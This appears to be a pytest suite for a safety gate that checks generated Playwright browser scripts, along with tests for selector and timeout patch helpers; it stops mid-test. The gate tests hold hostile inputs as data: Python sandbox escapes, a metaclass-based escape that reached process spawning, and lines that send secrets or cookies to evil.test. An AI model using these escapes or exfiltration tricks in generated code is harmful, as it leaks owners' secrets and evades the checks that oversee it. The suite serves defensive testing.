"""Unit tests for the pure code engine: validation, the safety gate, and patches."""

from __future__ import annotations

import ast
import textwrap

import pytest

from healing_app.codegen import (
    MAX_CODE_BYTES,
    CodeValidationError,
    PatchError,
    check_generated_code,
    choose_in_custom_select,
    close_whenever_shown,
    fix_shape,
    insert_login_steps,
    load_more_before,
    move_into_frame,
    open_menu_before,
    replace_selector,
    replace_url,
    scroll_before,
    select_option_by_label,
    set_step_timeout,
    validate_task_code,
)

CONTACT = '''\
import re

from playwright.sync_api import expect


def run(page, params):
    # Open the contact form.
    page.goto(params["base_url"] + "/contact")
    page.fill("#name", params["name"])   # odd spacing kept
    page.fill(
        '#email',
        params["email"],
    )
    page.get_by_role("button", name="Send").click()
    expect(page.locator(".confirmation")).to_be_visible()
    assert re.search("thanks", page.inner_text(".confirmation"))
    return {"confirmation": page.inner_text(".confirmation")}
'''

DOMAINS = ["example.com"]


def dedent(code: str) -> str:
    return textwrap.dedent(code).lstrip("\n")


def line_of(code: str, needle: str, *, whole: bool = False) -> int:
    return next(
        i for i, text in enumerate(code.splitlines(), 1)
        if (text.strip() == needle if whole else needle in text)
    )


def changed_lines(old: str, new: str) -> list[tuple[str, str]]:
    """(old, new) pairs of lines that differ, for codes with the same line count."""
    return [(a, b) for a, b in zip(old.splitlines(), new.splitlines()) if a != b]


def gate(code: str, *, original: str | None = CONTACT, **kwargs) -> list[str]:
    return check_generated_code(code, original=original, allowed_domains=DOMAINS, **kwargs)


def with_run(body: str, header: str = "") -> str:
    return header + "def run(page, params):\n" + textwrap.indent(dedent(body), "    ")


# --------------------------------------------------------------------------- validate_task_code


def test_validate_accepts_the_design_example():
    validate_task_code(CONTACT)


def test_validate_accepts_renamed_parameters_and_helpers():
    validate_task_code("def helper(x):\n    return x\n\n\ndef run(p, args):\n    return helper(p)\n")


def test_validate_reports_syntax_error_with_its_line():
    with pytest.raises(CodeValidationError) as err:
        validate_task_code("def run(page, params):\n    page.click('#a'\n\n")
    assert err.value.line in {2, 3}
    assert "syntax error" in err.value.reason


def test_validate_refuses_code_without_run():
    with pytest.raises(CodeValidationError) as err:
        validate_task_code("def main(page, params):\n    pass\n")
    assert err.value.line is None
    assert "def run(page, params)" in err.value.reason


def test_validate_refuses_nested_run():
    with pytest.raises(CodeValidationError):
        validate_task_code("class T:\n    def run(self, page, params):\n        pass\n")


@pytest.mark.parametrize(
    "signature", ["run(page)", "run(page, params, extra)", "run(page, *params)", "run(page, params, *, k)"]
)
def test_validate_refuses_run_without_exactly_two_positional_parameters(signature):
    with pytest.raises(CodeValidationError) as err:
        validate_task_code(f"\n\ndef {signature}:\n    pass\n")
    assert err.value.line == 3


def test_validate_accepts_optional_keyword_only_parameter():
    validate_task_code("def run(page, params, *, debug=False):\n    pass\n")


def test_validate_refuses_async_run():
    with pytest.raises(CodeValidationError, match="plain `def`"):
        validate_task_code("async def run(page, params):\n    pass\n")


def test_validate_refuses_code_over_256_kb():
    code = "def run(page, params):\n    pass\n" + "#" * MAX_CODE_BYTES
    with pytest.raises(CodeValidationError, match="256 KB"):
        validate_task_code(code)


def test_validation_error_message_carries_line_and_reason():
    err = CodeValidationError("bad thing", 7)
    assert (err.reason, err.line, str(err)) == ("bad thing", 7, "line 7: bad thing")
    assert isinstance(err, ValueError)


# --------------------------------------------------------------------------- check_generated_code


def test_gate_accepts_the_original_and_a_selector_fix():
    assert gate(CONTACT) == []
    fixed = CONTACT.replace('"#name"', '"[data-testid=name]"')
    assert gate(fixed) == []


def test_gate_accepts_code_without_original():
    assert gate(CONTACT, original=None) == []


def test_gate_refuses_unparsable_code():
    [violation] = gate("def run(page, params):\n    page.click(\n")
    assert "syntax error" in violation


def test_gate_refuses_missing_run():
    [violation] = gate("def go(page, params):\n    pass\n", original=None)
    assert "def run(page, params)" in violation


def test_gate_refuses_oversized_code():
    [violation] = gate(CONTACT + "#" * MAX_CODE_BYTES, original=None)
    assert "256 KB" in violation


@pytest.mark.parametrize(
    "header",
    [
        "import os\n",
        "import subprocess as sp\n",
        "from os import path\n",
        "import urllib.request\n",
        "from urllib import request\n",
        "from . import secrets\n",
        "from playwright.sync_api import sync_playwright\n",
        "import playwright.sync_api\n",
        "import importlib\n",
    ],
)
def test_gate_refuses_imports_outside_the_allow_list(header):
    code = with_run("page.click('#a')\n", header=header)
    violations = gate(code, original=None)
    assert any("import" in v and "not allowed" in v for v in violations), violations


@pytest.mark.parametrize(
    "header",
    [
        "import re, json, time, datetime, math\n",
        "import urllib.parse\n",
        "from urllib.parse import urljoin, quote\n",
        "from urllib import parse\n",
        "from __future__ import annotations\n",
        "from playwright.sync_api import expect, TimeoutError as PwTimeout\n",
    ],
)
def test_gate_accepts_allowed_imports(header):
    assert gate(with_run("page.click('#a')\n", header=header), original=None) == []


def test_gate_refuses_reaching_a_sibling_module_through_a_dotted_import():
    code = with_run("urllib.request.urlopen('http://example.com')\n", header="import urllib.parse\n")
    assert any("`urllib.request` is not allowed" in v for v in gate(code, original=None))


@pytest.mark.parametrize(
    "header, statement",
    [
        ("from urllib.parse import sys as s\n", "s.modules['socket'].create_connection(('evil.test', 80))"),
        ("import urllib.parse\n", "urllib.parse.sys.modules['os'].system('id')"),
        ("import urllib.parse as up\n", "up.sys.modules['os'].system('id')"),
        ("from urllib import parse\n", "parse.sys.modules['os'].system('id')"),
        ("import datetime\n", "datetime.sys.modules['os'].system('id')"),
        ("import re\n", "re.functools.reduce(print, [1, 2])"),
        ("import json\n", "json.decoder.scanner"),
        ("import re\n", "re._compiler"),
        ("from json import _default_decoder\n", "_default_decoder.decode('1')"),
    ],
)
def test_gate_refuses_modules_and_internals_reached_through_an_allowed_module(header, statement):
    violations = gate(with_run(statement + "\n", header=header), original=None)
    assert violations, statement


@pytest.mark.parametrize(
    "statement",
    [
        "page._impl_obj._main_frame",
        "getattr(page, '_impl_obj')",
        "'{0._impl_obj}'.format(page)",
        "g = (x for x in [1]); g.gi_frame.f_globals",
        "getattr((x for x in [1]), 'gi_frame')",
        "b = {}['__builtins__']",
        "(lambda: 0).mro",
    ],
)
def test_gate_refuses_private_attributes_and_ways_to_a_frames_globals(statement):
    assert gate(with_run(statement + "\n"), original=None), statement


def test_gate_allows_the_public_api_of_allowed_modules_and_a_private_attribute_the_original_had():
    code = with_run(
        "t = datetime.datetime.now(datetime.timezone.utc); q = urllib.parse.quote('a b'); m = re.compile('x')\n",
        header="import datetime, re, urllib.parse\n",
    )
    assert gate(code, original=None) == []
    original = with_run("page._old_helper = 1\n")
    assert gate(original + "\n", original=original) == []


@pytest.mark.parametrize(
    "statement, name",
    [
        ("__import__('os').system('id')", "__import__"),
        ("open('/etc/passwd').read()", "open"),
        ("eval(params['x'])", "eval"),
        ("exec('print(1)')", "exec"),
        ("compile('1', 'f', 'eval')", "compile"),
        ("globals()['x'] = 1", "globals"),
        ("setattr(page, 'x', 1)", "setattr"),
        ("x = sys", "sys"),
        ("__builtins__['open']", "__builtins__"),
    ],
)
def test_gate_refuses_forbidden_names(statement, name):
    violations = gate(with_run(statement + "\n"), original=None)
    assert any(f"`{name}`" in v for v in violations), violations


@pytest.mark.parametrize(
    "statement",
    [
        "x = ().__class__.__bases__[0].__subclasses__()",
        "page.__dict__",
        "getattr(page, '__class__')",
        "getattr(page, params['attr'])",
        "g = getattr",
        "'{0.__class__}'.format(page)",
    ],
)
def test_gate_refuses_dunder_access(statement):
    violations = gate(with_run(statement + "\n"), original=None)
    assert violations, statement
    assert all(v.startswith("line 2:") for v in violations)


@pytest.mark.parametrize(
    "statement, why",
    [
        ('nav = page.goto\nnav(params["base_url"].replace("example.com", "evil.test"))', "goto may only be called directly"),
        ('getattr(page, "goto")("https://evil.test/")', "getattr() of `goto`"),
        ('list(map(page.goto, ["https://evil.test/"]))', "goto may only be called directly"),
        ("page.wait_for_function(\"fetch('https:' + '//evil.test/?' + document.cookie)\")", "`.wait_for_function`"),
        ("page.locator('body').evaluate_all(\"n => fetch('//evil.test/?' + n.length)\")", "`.evaluate_all`"),
        ("page.pdf(path='/tmp/x.pdf')", "`.pdf`"),
    ],
)
def test_gate_refuses_navigation_and_javascript_that_go_around_the_goto_checks(statement, why):
    code = CONTACT.replace('    return {"confirmation"', "    " + statement.replace("\n", "\n    ") + '\n    return {"confirmation"')
    violations = gate(code)
    assert any(why in v for v in violations), violations


@pytest.mark.parametrize(
    "pattern, attr",
    [
        ("object(context=ctx)", "context"),  # then ctx.request.get(any URL), ctx.browser.browser_type.launch(...)
        ("object(evaluate=js)", "evaluate"),
        ("object(goto=nav)", "goto"),
        ("object(_impl_obj=impl)", "_impl_obj"),
        ("object(__globals__=g)", "__globals__"),  # of `run`: its builtins, and open()
        ("object(gi_frame=f)", "gi_frame"),
    ],
)
def test_gate_refuses_class_patterns_that_read_what_attribute_access_may_not(pattern, attr):
    """A class pattern names attributes as plain strings, with no Attribute node for the other checks."""
    code = with_run(f"match page:\n        case {pattern}:\n            pass\n")
    violations = gate(code, original=None)
    assert any(f"a class pattern reading `{attr}`" in v for v in violations), violations


def test_gate_allows_class_patterns_that_read_public_attributes():
    assert gate(with_run("match page:\n        case object(url=u):\n            return u\n"), original=None) == []


# A class pattern's positional sub-patterns read the attributes its class names in `__match_args__`: with a
# metaclass the code writes, any name, chosen at run time. This one reached `sys`, then `_posixsubprocess.fork_exec`
# (which no audit event covers), and started a process that sent the task's secret to any host.
READS_ANY_ATTRIBUTE = """
import urllib.parse


class Reader(type):
    def __instancecheck__(cls, obj):
        return True

    @property
    def __match_args__(cls):
        return cls.names


def read(obj, name):
    class Attr(metaclass=Reader):
        names = (name,)
    match obj:
        case Attr(value):
            return value


def run(page, params):
    interpreter = read(urllib.parse, "sys")
    return interpreter.modules["_posixsubprocess"].fork_exec
"""


@pytest.mark.parametrize("code", [
    READS_ANY_ATTRIBUTE,
    READS_ANY_ATTRIBUTE.replace("class Attr(", "class str(").replace("case Attr(", "case str("),
    with_run("match page:\n    case urllib.parse.SplitResult(scheme):\n        return scheme\n",
             header="import urllib.parse\n"),
])
def test_gate_refuses_class_patterns_whose_class_names_the_attributes_they_read(code):
    violations = gate(code, original=None)
    assert any("positional sub-patterns" in v for v in violations), violations


def test_gate_allows_a_builtin_type_matching_its_value_by_position():
    assert gate(with_run("match params.get('n'):\n    case int(n) | str(n):\n        return n\n"), original=None) == []


def test_gate_allows_getattr_with_a_plain_literal_and_main_guard():
    code = with_run("return getattr(page, 'url')\n") + "\n\nif __name__ == '__main__':\n    pass\n"
    assert gate(code, original=None) == []


@pytest.mark.parametrize(
    "url",
    [
        '"https://evil.test/login"',
        '"//evil.test/x"',
        '"javascript:alert(1)"',
        '"file:///etc/passwd"',
        '"https://example.com.evil.test/"',
        '"https://example.com@evil.test/"',
        '"https://evil.test\\\\.example.com/"',
        '"https:" + "//evil.test"',
        'f"https://evil.test/{params[\'path\']}"',
        'params["base_url"] + ".evil.test/x"',
        'params["base_url"] + "@evil.test"',
        'f"{params[\'base_url\']}.evil.test/x"',
        '**{"url": "https://" + chr(101) + "vil.test/?" + params["secrets"]["pw"]}',  # no `url` keyword to check
    ],
)
def test_gate_refuses_goto_outside_allowed_domains(url):
    violations = gate(with_run(f"page.goto({url})\n"), original=None)
    assert any("goto" in v or "allowed domains" in v for v in violations), (url, violations)


@pytest.mark.parametrize(
    "url",
    [
        '"/contact"',
        '"https://example.com/contact"',
        '"https://shop.example.com:8443/cart?x=1"',
        'params["base_url"] + "/contact"',
        'params["base_url"] + ":8080/x"',
        'params["base_url"]',
        'f"{params[\'base_url\']}/users/{params[\'id\']}.html"',
        '"https://" + params["host"] + "/x"',
        'url="/contact"',
    ],
)
def test_gate_accepts_relative_param_based_and_allowed_goto(url):
    assert gate(with_run(f"page.goto({url})\n"), original=None) == []


def test_gate_refuses_new_foreign_url_literal_reached_through_a_variable():
    code = with_run('target = "https://evil.test/"\npage.goto(target)\n')
    assert any("https://evil.test/" in v for v in gate(code, original=None))


def test_gate_tolerates_foreign_url_literals_the_original_already_had():
    original = with_run('link = "https://partner.test/terms"\npage.goto(params["base_url"])\n')
    changed = original.replace('page.goto(params["base_url"])', 'page.goto(params["base_url"] + "/x")')
    assert gate(changed, original=original) == []


@pytest.mark.parametrize(
    "body",
    [
        # A secret sent to a host built from pieces: none of them is a URL literal on its own.
        'u = "https:/" + "/evil.test/?p=" + params["secrets"]["password"]\npage.goto(u)\n',
        'h = "evil" + ".test"\npage.goto(f"https://{h}/?p={params[\'secrets\'][\'password\']}")\n',
        'page.goto("".join(["https:/", "/evil.test/"]) + params["secrets"]["password"])\n',
        'page.goto("https:/%s" % "/evil.test/")\n',
        'page.set_content("<img src=https:/" + "/evil.test/" + params["secrets"]["password"] + ">")\n',
        'params["base_url"] = "https://evil.test"\npage.goto(params["base_url"])\n',
        'params.update(base_url="https://evil.test")\npage.goto(params["base_url"])\n',
    ],
)
def test_gate_refuses_urls_assembled_to_leave_the_allowed_domains(body):
    assert gate(with_run(body), original=with_run('page.goto(params["base_url"])\n')), body


@pytest.mark.parametrize(
    "body",
    [
        # A default is the generated code's own text, not the owner's.
        'page.goto(params.get("nope", "https:{}/evil.test/?p=".format("/") + params["secrets"]["password"]))\n',
        'x = "https:/%s" % "/evil.test/"\n',
        'x = "https:/{}".format("/evil.test/")\n',
        # params may be read, never aliased, rebound or handed on.
        'p = params\np["base_url"] = "https:/" "/evil.test"\npage.goto(params["base_url"])\n',
        'dict.update(params, base_url=params["secrets"]["password"])\npage.goto(params["base_url"])\n',
        'for params in [{"base_url": params["secrets"]["password"]}]:\n    page.goto(params["base_url"])\n',
        'page.goto([params["base_url"] for params in [{"base_url": params["secrets"]["password"]}]][0])\n',
        'params["site"].update(url=params["secrets"]["password"])\npage.goto(params["site"]["url"])\n',
        # Bindings the gate once did not see.
        'url = params["base_url"]\nmatch params["secrets"]["password"]:\n    case url:\n        page.goto(url)\n',
        'url = params["base_url"]\ntry:\n    pass\nexcept Exception as url:\n    page.goto(url)\n',
    ],
)
def test_gate_refuses_defaults_formats_and_params_tricks(body):
    assert gate(with_run(body), original=with_run('page.goto(params["base_url"])\n')), body


def test_gate_keeps_accepting_heals_next_to_loops_and_helpers():
    looped = with_run('for path in ["/a", "/b"]:\n    page.goto(params["base_url"] + path)\n    page.click("#send")\n')
    assert gate(looped.replace('"#send"', '"[data-testid=send]"'), original=looped) == []
    helper = (
        "def open_page(page, url):\n    page.goto(url)\n\n\n"
        + with_run('open_page(page, params["base_url"])\npage.click("#send")\n')
    )
    call = '    open_page(page, params["base_url"])'
    moved = helper.replace(call, "    page.wait_for_load_state()\n" + call)
    assert gate(moved, original=helper) == []
    assert gate(with_run('page.goto(params.get("base_url"))\n'), original=None) == []


def test_gate_accepts_a_url_variable_the_heal_rebuilt_from_params_and_allowed_text():
    original = with_run('url = params["base_url"] + "/catalog"\npage.goto(url)\n')
    assert gate(original.replace("/catalog", "/products"), original=original) == []
    assert gate(original.replace("/catalog", "/products"), original=None) == []
    smuggled = original.replace('params["base_url"] + "/catalog"', 'params["base_url"] + params["secrets"]["host"]')
    assert gate(smuggled, original=original) == []  # params are the owner's: trusted, as in a goto itself
    computed = original.replace('params["base_url"] + "/catalog"', '"https://" + "evil" + ".test"')
    assert any("built from `url`" in v for v in gate(computed, original=original))
    looped = with_run('for url in [params["base_url"]]:\n    page.goto(url)\n')
    assert any("built from `url`" in v for v in gate(looped, original=None))


def test_gate_trusts_a_computed_goto_only_while_its_names_are_bound_as_in_the_original():
    original = with_run('url = params["base_url"] + "/contact"\npage.goto(url)\npage.click("#send")\n')
    assert gate(original.replace('"#send"', '"[data-testid=send]"'), original=original) == []
    hijacked = original.replace("page.goto(url)", 'url = "https:/" + "/evil.test"\n    page.goto(url)')
    assert any("built from `url`" in v for v in gate(hijacked, original=original))
    renamed = original.replace("url = ", "target = ").replace("goto(url)", "goto(target)")
    assert gate(renamed, original=original) == []  # a new name bound to a params URL is as good as the old one


@pytest.mark.parametrize(
    "statement",
    [
        "page.evaluate('document.cookie')",
        "page.add_init_script('window.x = 1')",
        "page.route('**/*', lambda r: r.abort())",
        "page.expose_function('leak', print)",
        "page.set_input_files('#f', '/etc/passwd')",
        "page.on('filechooser', lambda chooser: chooser.set_files('/etc/passwd'))",
        "page.context.new_page()",
        "page.set_content('<p>hi</p>')",
        "page.set_extra_http_headers({'x': '1'})",
    ],
)
def test_gate_refuses_added_guarded_page_apis(statement):
    code = CONTACT.replace("    return {", f"    {statement}\n    return {{")
    violations = gate(code)
    assert violations and all("more time(s) than in the original" in v for v in violations)


def test_gate_allows_guarded_apis_the_original_already_used():
    original = with_run("page.evaluate('window.scrollTo(0, 0)')\npage.click('#a')\n")
    fixed = original.replace("'#a'", "'#b'")
    assert gate(fixed, original=original) == []
    doubled = fixed.replace("page.click", "page.evaluate('1')\n    page.click")
    assert gate(doubled, original=original) == ["`.evaluate` is used 1 more time(s) than in the original"]


def test_gate_refuses_a_diff_over_the_line_budget():
    extra = "".join(f"    page.click('#b{i}')\n" for i in range(41))
    code = CONTACT.replace("    return {", extra + "    return {")
    [violation] = gate(code)
    assert violation == "41 lines changed; at most 40 may change"
    assert gate(code, max_changed_lines=41) == []


def test_gate_counts_a_replaced_line_once():
    code = CONTACT.replace('"#name"', '"#full-name"')
    assert gate(code, max_changed_lines=1) == []
    assert gate(code, max_changed_lines=0) == ["1 lines changed; at most 0 may change"]


def test_gate_refuses_removed_assert():
    code = CONTACT.replace('    assert re.search("thanks", page.inner_text(".confirmation"))\n', "")
    line = line_of(CONTACT, "assert re.search")
    assert gate(code) == [f"line {line} of the original: assertion removed or changed"]


@pytest.mark.parametrize(
    "old, new",
    [
        ('assert re.search("thanks", page.inner_text(".confirmation"))',
         'assert re.search("thanks", page.inner_text(".confirmation")) or True'),
        ("expect(page.locator(\".confirmation\")).to_be_visible()",
         "expect(page.locator(\".confirmation\")).to_be_attached()"),
        ("expect(page.locator(\".confirmation\")).to_be_visible()", "pass"),
    ],
)
def test_gate_refuses_weakened_assertions(old, new):
    assert old in CONTACT
    violations = gate(CONTACT.replace(old, new))
    assert any("assertion removed or changed" in v for v in violations), violations


def test_gate_refuses_assertion_hidden_in_dead_or_swallowing_block():
    expect_line = '    expect(page.locator(".confirmation")).to_be_visible()\n'
    guarded = CONTACT.replace(expect_line, "    if False:\n    " + expect_line)
    swallowed = CONTACT.replace(
        expect_line, "    try:\n    " + expect_line + "    except Exception:\n        pass\n"
    )
    for code in (guarded, swallowed):
        assert any("assertion removed or changed" in v for v in gate(code))


def test_gate_accepts_a_raised_timeout_on_an_expect_line():
    line = line_of(CONTACT, "expect(")
    assert gate(set_step_timeout(CONTACT, line=line, timeout_ms=30000)) == []


def test_gate_refuses_a_selector_change_inside_an_assertion():
    line = line_of(CONTACT, "expect(")
    fixed = replace_selector(CONTACT, line=line, old_selector=".confirmation", new_selector="body")
    assert gate(fixed) == [f"line {line} of the original: assertion removed or changed"]


def test_gate_accepts_moved_surroundings_of_an_unchanged_assertion():
    code = CONTACT.replace("    # Open the contact form.\n", "    page.wait_for_load_state()\n")
    assert gate(code) == []


def test_gate_reports_every_violation_with_its_line():
    code = with_run("import os\npage.goto('https://evil.test')\neval('1')\n")
    violations = gate(code, original=None)
    assert len(violations) >= 4
    assert all(v.startswith("line ") for v in violations)


# --------------------------------------------------------------------------- select_option_by_label

COUNTRIES = '''def run(page, params):
    page.select_option("#country", "DE")  # ship to
    page.locator('#billing').select_option('DE', timeout=3000)
    page.select_option("#delivery", value="DE")
    page.select_option("#country", params["country"])
'''


@pytest.mark.parametrize(("line", "after"), [
    (2, '    page.select_option("#country", label="Germany")  # ship to'),
    (3, "    page.locator('#billing').select_option(label='Germany', timeout=3000)"),
    (4, '    page.select_option("#delivery", label="Germany")'),
])
def test_select_option_by_label_turns_the_literal_value_into_the_label(line, after):
    new = select_option_by_label(COUNTRIES, line=line, old_value="DE", label="Germany")
    assert changed_lines(COUNTRIES, new) == [(COUNTRIES.splitlines()[line - 1], after)]


def test_select_option_by_label_leaves_a_value_from_params_to_its_owner():
    with pytest.raises(PatchError, match="no select_option with the literal value 'DE' on line 5"):
        select_option_by_label(COUNTRIES, line=5, old_value="DE", label="Germany")


# --------------------------------------------------------------------------- replace_selector


def test_replace_selector_replaces_the_literal_and_keeps_everything_else():
    line = line_of(CONTACT, '"#name"')
    new = replace_selector(CONTACT, line=line, old_selector="#name", new_selector="#full-name")
    assert changed_lines(CONTACT, new) == [
        ('    page.fill("#name", params["name"])   # odd spacing kept',
         '    page.fill("#full-name", params["name"])   # odd spacing kept'),
    ]


def test_replace_selector_keeps_single_quotes_in_a_multi_line_call():
    line = line_of(CONTACT, "page.fill(", whole=True)
    new = replace_selector(CONTACT, line=line, old_selector="#email", new_selector="input[type=email]")
    assert changed_lines(CONTACT, new) == [("        '#email',", "        'input[type=email]',")]


def test_replace_selector_switches_quotes_rather_than_escaping():
    line = line_of(CONTACT, '"#name"')
    new = replace_selector(CONTACT, line=line, old_selector="#name", new_selector='[data-testid="name"]')
    assert "page.fill('[data-testid=\"name\"]', params[\"name\"])" in new


def test_replace_selector_escapes_when_both_quotes_appear():
    code = with_run("page.click('#a')\n")
    selector = """text="it's" >> a\\b"""
    new = replace_selector(code, line=2, old_selector="#a", new_selector=selector)
    call = ast.parse(new).body[0].body[0].value
    assert call.args[0].value == selector
    assert "page.click('" in new


def test_replace_selector_keeps_raw_strings_when_possible():
    code = with_run("page.click(r'input[name=q]')\n")
    new = replace_selector(code, line=2, old_selector="input[name=q]", new_selector=r"text=/a\d+/")
    assert r"page.click(r'text=/a\d+/')" in new


def test_replace_selector_in_a_locator_chain_and_expect():
    code = with_run(
        """
        page.locator("form").locator("#send").click()
        expect(page.locator(".ok")).to_have_text("Thanks")  # must stay
        """
    )
    new = replace_selector(code, line=2, old_selector="#send", new_selector="form >> button.primary")
    assert 'page.locator("form").locator("form >> button.primary").click()' in new
    new = replace_selector(code, line=3, old_selector=".ok", new_selector="#done")
    assert 'expect(page.locator("#done")).to_have_text("Thanks")  # must stay' in new


def test_replace_selector_ignores_matching_text_that_is_not_a_selector():
    code = with_run('page.fill("#q", "#q")\n')
    new = replace_selector(code, line=2, old_selector="#q", new_selector="#search")
    assert 'page.fill("#search", "#q")' in new


@pytest.mark.parametrize(
    "old_selector",
    [
        'role=button[name="Send"]',
        'internal:role=button[name="Send"i]',
        'get_by_role("button", name="Send")',
        "page.get_by_role('button', name='Send')",
    ],
)
def test_replace_selector_turns_a_matching_get_by_role_into_a_locator(old_selector):
    line = line_of(CONTACT, "get_by_role")
    new = replace_selector(CONTACT, line=line, old_selector=old_selector, new_selector='[data-testid="send"]')
    assert changed_lines(CONTACT, new) == [
        ('    page.get_by_role("button", name="Send").click()',
         "    page.locator('[data-testid=\"send\"]').click()"),
    ]


@pytest.mark.parametrize(
    "call, old_selector",
    [
        ('get_by_text("Sign in", exact=True)', 'text="Sign in"'),
        ('get_by_text("Sign in")', 'internal:text="Sign in"i'),
        ('get_by_label("Email")', 'internal:label="Email"i'),
        ('get_by_placeholder("you@example.com")', 'internal:attr=[placeholder="you@example.com"i]'),
        ('get_by_test_id("submit")', 'internal:testid=[data-testid="submit"s]'),
        ('get_by_role("heading", level=2)', "role=heading[level=2]"),
        ('get_by_role("checkbox", checked=True)', "role=checkbox[checked]"),
    ],
)
def test_replace_selector_matches_every_get_by_form(call, old_selector):
    code = with_run(f"frame = page.frame_locator('iframe')\nframe.{call}.click()\n")
    new = replace_selector(code, line=3, old_selector=old_selector, new_selector="#x")
    assert 'frame.locator("#x").click()' in new


def test_replace_selector_only_replaces_the_matching_get_by_call():
    code = with_run('page.get_by_role("dialog").get_by_role("button", name="OK").click()\n')
    new = replace_selector(code, line=2, old_selector='role=button[name="OK"]', new_selector="#ok")
    assert 'page.get_by_role("dialog").locator("#ok").click()' in new


def test_replace_selector_does_not_match_a_get_by_role_with_another_name():
    line = line_of(CONTACT, "get_by_role")
    with pytest.raises(PatchError, match="not found on line"):
        replace_selector(CONTACT, line=line, old_selector='role=button[name="Cancel"]', new_selector="#x")


def test_replace_selector_refuses_a_selector_on_another_line():
    with pytest.raises(PatchError, match=r"'#name' not found on line 3"):
        replace_selector(CONTACT, line=3, old_selector="#name", new_selector="#x")


def test_patches_refuse_code_that_does_not_parse():
    with pytest.raises(PatchError, match="does not parse"):
        replace_selector("def run(page, params):\n    page.click(\n", line=2, old_selector="#a", new_selector="#b")


# --------------------------------------------------------------------------- set_step_timeout


def test_two_fixes_that_differ_only_in_how_long_they_wait_have_one_shape():
    line = line_of(CONTACT, '"#name"')
    today = set_step_timeout(CONTACT, line=line, timeout_ms=13000)
    on_a_busy_day = set_step_timeout(CONTACT, line=line, timeout_ms=14000)
    assert today != on_a_busy_day
    assert fix_shape(today) == fix_shape(on_a_busy_day)
    elsewhere = set_step_timeout(CONTACT, line=line_of(CONTACT, "page.fill(", whole=True), timeout_ms=13000)
    assert fix_shape(elsewhere) != fix_shape(today)  # a wait on another line is another fix
    assert fix_shape(today.replace("#name", "#full-name")) != fix_shape(today)


def test_set_step_timeout_adds_a_keyword():
    line = line_of(CONTACT, '"#name"')
    new = set_step_timeout(CONTACT, line=line, timeout_ms=30000)
    assert 'page.fill("#name", params["name"], timeout=30000)   # odd spacing kept' in new


def test_set_step_timeout_keeps_a_trailing_comma_layout():
    line = line_of(CONTACT, "page.fill(", whole=True)
    new = set_step_timeout(CONTACT, line=line, timeout_ms=15000)
    assert "    page.fill(\n        '#email',\n        params[\"email\"],\n        timeout=15000,\n    )\n" in new


def test_set_step_timeout_keeps_a_single_argument_trailing_comma_layout():
    code = with_run('page.click(\n    "#a",\n)\n')
    new = set_step_timeout(code, line=2, timeout_ms=5000)
    assert 'page.click(\n        "#a",\n        timeout=5000,\n    )' in new


def test_set_step_timeout_targets_the_action_of_a_chain_and_expect_matchers():
    line = line_of(CONTACT, "get_by_role")
    new = set_step_timeout(CONTACT, line=line, timeout_ms=20000)
    assert 'page.get_by_role("button", name="Send").click(timeout=20000)' in new
    line = line_of(CONTACT, "expect(")
    new = set_step_timeout(CONTACT, line=line, timeout_ms=20000)
    assert 'expect(page.locator(".confirmation")).to_be_visible(timeout=20000)' in new


def test_set_step_timeout_raises_but_never_lowers_a_timeout():
    code = with_run(
        """
        page.click("#a", timeout=1000)
        page.click("#b", timeout=90_000)
        page.click("#c", timeout=0)
        page.click("#d", timeout=params["t"])
        """
    )
    assert 'page.click("#a", timeout=30000)' in set_step_timeout(code, line=2, timeout_ms=30000)
    assert set_step_timeout(code, line=3, timeout_ms=30000) == code
    assert set_step_timeout(code, line=4, timeout_ms=30000) == code
    assert 'page.click("#d", timeout=max(params["t"], 30000))' in set_step_timeout(code, line=5, timeout_ms=30000)


def test_set_step_timeout_covers_every_action_on_the_line():
    code = with_run('page.fill("#a", page.inner_text("#b"))\n')
    new = set_step_timeout(code, line=2, timeout_ms=9000)
    assert 'page.fill("#a", page.inner_text("#b", timeout=9000), timeout=9000)' in new


def test_set_step_timeout_refuses_a_line_without_a_playwright_action():
    code = with_run('x = params.get("name")\npage.wait_for_timeout(500)\n')
    for line in (2, 3):
        with pytest.raises(PatchError, match="no Playwright call accepting a timeout"):
            set_step_timeout(code, line=line, timeout_ms=1000)


# --------------------------------------------------------------------------- inserting before a step
# (open_menu_before and insert_login_steps share _insert_before; these pin down where it inserts)


def test_an_inserted_step_keeps_comments_with_their_statement():
    line = line_of(CONTACT, "page.goto")
    new = open_menu_before(CONTACT, line=line, opener_selector="#menu", how="hover")
    assert (
        "def run(page, params):\n"
        '    page.hover("#menu")\n'
        "    # Open the contact form.\n"
        '    page.goto(params["base_url"] + "/contact")\n'
    ) in new


def test_an_inserted_step_uses_the_block_indentation_and_page_name():
    code = dedent(
        """
        def run(p, params):
            for row in params["rows"]:
                if row:

                    p.fill("#q", row)  # search
        """
    )
    new = open_menu_before(code, line=5, opener_selector="#more", how="click")
    assert new == code.replace(
        '\n            p.fill("#q"',
        '\n            p.click("#more")\n            p.fill("#q"',
    )


def test_a_step_is_inserted_inside_a_helper():
    code = dedent(
        """
        def submit(page):
            page.click("#send")


        def run(page, params):
            submit(page)
        """
    )
    new = open_menu_before(code, line=2, opener_selector="#menu", how="hover")
    assert '    page.hover("#menu")\n    page.click("#send")' in new


def test_a_step_is_inserted_before_a_multi_line_statement_from_its_inner_line():
    line = line_of(CONTACT, "'#email'")
    new = open_menu_before(CONTACT, line=line, opener_selector="#menu", how="hover")
    assert '    page.hover("#menu")\n    page.fill(\n' in new


def test_inserting_a_step_refuses_lines_that_start_no_statement():
    with pytest.raises(ValueError, match="how must be hover or click"):
        open_menu_before(CONTACT, line=8, opener_selector="#a", how="press")
    with pytest.raises(PatchError, match="no statement starts on line 7"):
        open_menu_before(CONTACT, line=7, opener_selector="#a", how="hover")  # a comment line
    with pytest.raises(PatchError, match="no statement starts on line 999"):
        open_menu_before(CONTACT, line=999, opener_selector="#a", how="hover")
    with pytest.raises(PatchError, match="not inside a function"):
        open_menu_before(CONTACT, line=1, opener_selector="#a", how="hover")


def test_scroll_before_turns_the_wheel_right_before_the_step_with_the_pages_own_name():
    code = dedent(
        """
        def run(p, params):
            p.goto(params["base_url"])
            # The form's button renders once scrolled to.
            p.click("#submit")
        """
    )
    assert scroll_before(code, line=4, pixels=2400) == code.replace("    # The form", "    p.mouse.wheel(0, 2400)\n    # The form")


def test_load_more_before_presses_until_the_element_is_there_and_keeps_the_steps_comment():
    code = dedent(
        """
        def run(p, params):
            p.goto(params["base_url"] + "/catalog")
            # The 15th product's price.
            return p.inner_text("#p15 .price")
        """
    )
    healed = load_more_before(code, line=4, button_selector="#more", selector="#p15 .price", presses_max=20,
                              batch_wait_ms=3000)
    assert healed == dedent(
        """
        def run(p, params):
